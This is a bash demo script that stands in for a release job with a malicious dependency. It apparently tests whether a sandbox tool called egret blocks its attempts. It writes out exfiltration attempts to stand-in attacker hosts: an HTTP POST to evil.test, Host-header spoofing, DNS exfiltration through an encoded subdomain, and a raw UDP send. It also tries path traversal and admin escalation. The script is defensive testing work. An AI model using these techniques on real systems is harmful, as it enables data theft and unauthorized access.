#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The job of the demo: a release script as one finds them, and what a bad dependency in it would try next. It is run twice, without and with
# egret, and does not know which. One line an attempt: "NUMBER what it got".
#
#   release.sh RESULTS PAUSE     ends only when the file PAUSE is gone, so that its memory can be searched meanwhile
results=$1 pause=$2
exec 9>"$results"
api=https://api.shop.test

ask() { # number, curl's arguments: status code and reason, or why there was no answer
	local n=$1 out status first
	shift
	out=$(curl -sS -i --http1.1 --max-time 10 "$@" 2>&1)
	status=$?
	first=$(head -n 1 <<<"$out" | tr -d '\r')
	case $first in
	HTTP/*) echo "$n ${first#HTTP/?.? }" >&9 ;;
	*) echo "$n no answer (curl $status)" >&9 ;;
	esac
}

ask 1 $api/v1/releases
# Without egret the job holds the token; with egret it holds nothing, and the same line works.
if [ -n "${RELEASE_TOKEN:-}" ]; then
	ask 2 -d 'tag=v1.2' -H "Authorization: Bearer $RELEASE_TOKEN" $api/v1/releases
else
	ask 2 -d 'tag=v1.2' $api/v1/releases
fi
ask 3 -d 'user=mallory' $api/v1/admin
ask 4 --path-as-is -d 'user=mallory' $api/v1/releases/../admin
ask 5 -d 'data=source' https://evil.test/collect
ask 6 -H 'Host: evil.test' $api/collect
ask 7 -k https://198.51.100.20/collect
if addresses=$(getent ahostsv4 c2VjcmV0LWRhdGE.evil.test); then
	echo "8 resolved to ${addresses%% *}" >&9
else
	echo "8 not resolved" >&9
fi
if (exec 3<>/dev/udp/198.51.100.20/443 && echo datagram >&3) 2>/dev/null; then
	echo "9 sent" >&9
else
	echo "9 refused by the kernel" >&9
fi
exec 9>&-
touch "$results.done"
while [ -e "$pause" ]; do sleep 0.05; done
